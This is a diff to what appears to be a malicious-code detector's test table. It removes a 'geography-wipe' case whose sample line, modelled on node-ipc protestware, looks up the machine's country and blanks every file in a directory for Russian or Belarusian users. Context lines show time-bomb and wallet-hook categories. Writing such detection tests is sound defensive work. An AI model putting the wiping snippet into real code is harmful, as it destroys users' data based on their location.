@@ -266,18 +266,6 @@ testTable({
       ['another time', 'if (Date.now() > expires) go()'],
     ],
   },
-  'geography-wipe': {
-    hits: [
-      [
-        "node-ipc's",
-        "get('https://api.ipgeolocation.io/ipgeo', (r) => { if (/russia|belarus/.test(r.country_name)) for (const f of fs.readdirSync(d)) fs.writeFileSync(f, '') })",
-      ],
-    ],
-    misses: [
-      ['a list of countries', "module.exports = ['Russia', 'Belarus']"],
-      ['a place alone', "get('https://ipinfo.io', (r) => show(r.country_code === 'RU'))"],
-    ],
-  },
   'wallet-hook': {
     hits: [
       [
